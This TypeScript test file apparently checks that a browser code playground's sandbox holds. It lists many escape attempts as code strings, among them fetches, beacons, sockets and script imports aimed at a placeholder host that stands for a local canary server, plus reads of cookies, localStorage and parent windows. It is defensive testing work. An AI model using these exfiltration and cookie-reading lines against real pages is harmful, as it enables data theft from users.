import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, it } from "node:test";
import { expect } from "chai";
import { type Playground, press, shown, startPlayground } from "./playground-page.ts";

const output = ".code-output";

/** Ways out of a Worker, as a visitor's code could try them. URL stands for another origin, PAGE for the page's own. */
const attempts: Readonly<Record<string, string>> = {
  fetch: `await fetch("URL/fetch", { mode: "no-cors" })`,
  "fetch of the page's origin": `await fetch("PAGE/stolen-by-fetch", { mode: "no-cors" })`,
  "fetch with cookies": `await fetch("URL/cookies", { mode: "no-cors", credentials: "include" })`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "URL/xhr", false); x.send()`,
  WebSocket: `await new Promise((ok, no) => { const s = new WebSocket("WS/socket"); s.onopen = ok; s.onerror = no })`,
  EventSource: `await new Promise((ok, no) => { const s = new EventSource("URL/events"); s.onmessage = ok; s.onerror = no })`,
  WebTransport: `await new WebTransport("https" + "URL".slice(4) + "/transport").ready`,
  importScripts: `importScripts("URL/import-scripts")`,
  "importScripts of the page's origin": `importScripts("PAGE/stolen-by-import-scripts")`,
  "importScripts of data": `importScripts("data:text/javascript,self.ran = 1")`,
  "a font": `await new FontFace("f", "url(URL/font)").load()`,
  "a Worker of another origin": `new Worker("URL/worker")`,
  "a Worker of the page's origin": `new Worker("PAGE/stolen-by-worker")`,
  eval: `(0, eval)("1")`,
  "new Function": `new Function("return 1")()`,
  "import() in a Worker within": `await within("import('URL/import').then(() => postMessage(1), () => postMessage(0))")`,
  "fetch in a Worker within": `await within("fetch('URL/within', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))")`,
  "a module Worker within": `await within("import 'URL/static'; postMessage(1)", { type: "module" })`,
  IndexedDB: `await new Promise((ok, no) => { const r = indexedDB.open("etcd-web-playground"); r.onsuccess = ok; r.onerror = no })`,
  caches: `await caches.keys()`,
  "a lock of the page's": `await navigator.locks.request("a", () => 1)`,
  "the browser's files": `await navigator.storage.getDirectory()`,
  localStorage: `localStorage.length`,
  cookies: `document.cookie`,
  cookieStore: `await cookieStore.getAll()`,
  parent: `parent.location.href`,
  top: `top.document`,
  opener: `opener.document`,
  RTCPeerConnection: `new RTCPeerConnection()`,
  "a beacon": `if (!navigator.sendBeacon("URL/beacon")) throw new Error("no")`,
  Image: `new Image().src = "URL/image"`,
  "shared worker": `new SharedWorker("PAGE/stolen-by-shared-worker")`,
};

const within = `const within = (code, options) => new Promise((ok, no) => {
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })), options);
  worker.onmessage = ({ data }) => (data === 1 ? ok() : no(new Error("refused")));
  worker.onerror = () => no(new Error("refused"));
});`;

describe("code in the playground", { timeout: 180_000 }, () => {
  let playground: Playground;
  let canary: Canary;
  before(async () => {
    playground = await startPlayground();
    canary = await startCanary();
  });
  after(async () => {
    await playground?.[Symbol.asyncDispose]();
    canary?.server.closeAllConnections();
    canary?.server.close();
  });

  it("gets out by none of the ways there are, and leaves no trace anywhere else", async () => {
    await using tab = await playground.open("#/code");
    // What there would be to steal.
    await tab.page.evaluate(() => {
      localStorage.setItem("secret", "page");
      // biome-ignore lint/suspicious/noDocumentCookie: the other API is for https only
      document.cookie = "secret=page";
    });
    const lines = Object.entries(attempts).map(
      ([name, code]) =>
        `await attempt(${JSON.stringify(name)}, async () => { ${fill(code, canary.url, playground.site.origin)} });`,
    );
    const program = `${within}
async function attempt(name, act) {
  try { await Promise.race([act(), late()]); console.log("GOT OUT:", name); }
  catch (error) { console.log("held:", name); }
}
const late = () => new Promise((_, no) => setTimeout(no, 3000));
${lines.join("\n")}
console.log("origin:", self.origin, "storage:", typeof localStorage);
new BroadcastChannel("page").onmessage = () => console.log("GOT OUT: BroadcastChannel");
setTimeout(() => { console.log("end of attempts"); }, 500);
await new Promise(() => {});`;
    await tab.page.evaluate((code) => location.assign(`#/code?code=${encodeURIComponent(code)}`), program);
    await tab.page.waitForFunction(() =>
      document.querySelector(".code-editor")?.shadowRoot?.textContent?.includes("const within"),
    );
    await press(tab.page, "Run");
    await shown(tab.page, output, "origin: null storage: undefined");
    await tab.page.evaluate(() => new BroadcastChannel("page").postMessage("secret"));
    await shown(tab.page, output, "end of attempts");
    const text = await tab.page.$eval(output, (element) => (element as HTMLElement).innerText);
    expect(text).not.to.contain("GOT OUT");
    for (const name of Object.keys(attempts)) expect(text).to.contain(`held: ${name}`);
    expect(canary.asked).to.deep.equal([]);
  });

  it("is tried by ways that do lead out of an ordinary page", async () => {
    await using tab = await playground.open("#/code");
    const ways = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource"].map((name) =>
      fill(attempts[name] ?? "", canary.url, playground.site.origin),
    );
    for (const way of ways) await tab.page.evaluate(`(async () => { ${way} })().catch(() => {})`);
    expect(canary.asked.toSorted()).to.deep.equal(["/events", "/fetch", "/socket", "/xhr"]);
    expect(
      await tab.page.evaluate("new Promise((ok) => { indexedDB.open('a').onsuccess = () => ok('opened') })"),
    ).to.equal("opened");
  });

  it("runs nowhere but in a frame of an opaque origin: the sandbox's document alone does nothing", async () => {
    await using tab = await playground.open("#/code");
    await tab.page.evaluate(() => location.assign("#/code?code=await new Promise(() => {})"));
    await press(tab.page, "Run");
    await shown(tab.page, output, "Running");
    await tab.page.waitForSelector("iframe");
    const sandbox = await tab.page.$eval("iframe", ({ srcdoc }) => srcdoc);
    expect(sandbox).to.contain("default-src 'none'");
    const heard = await tab.page.evaluate(async (text) => {
      const frame = document.createElement("iframe"); // without "sandbox": the page's own origin
      frame.srcdoc = text;
      const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
      document.body.append(frame);
      await loaded;
      const talk = new MessageChannel();
      const calls = new MessageChannel();
      const answer = new Promise((resolve) => {
        talk.port1.onmessage = ({ data }) => resolve(data);
        setTimeout(() => resolve("nothing"), 1_500);
      });
      frame.contentWindow?.postMessage({ code: "console.log(1)" }, "*", [talk.port2, calls.port2]);
      return answer;
    }, sandbox);
    expect(heard).to.equal("nothing");
  });
});

interface Canary {
  readonly url: string;
  readonly server: Server;
  /** The paths that anybody asked it for. */
  readonly asked: string[];
}

/** A server that nobody should ever call. */
async function startCanary(): Promise<Canary> {
  const asked: string[] = [];
  const server = createServer(({ url = "" }, response) => {
    asked.push(url);
    response.setHeader("access-control-allow-origin", "*").end("");
  });
  server.on("upgrade", ({ url = "" }, socket) => {
    asked.push(url);
    socket.destroy();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server, asked };
}

function fill(code: string, url: string, page: string): string {
  return code
    .replaceAll("WS/", `${url.replace("http", "ws")}/`)
    .replaceAll(/\bURL(?=[/"])/g, url)
    .replaceAll("PAGE", page);
}
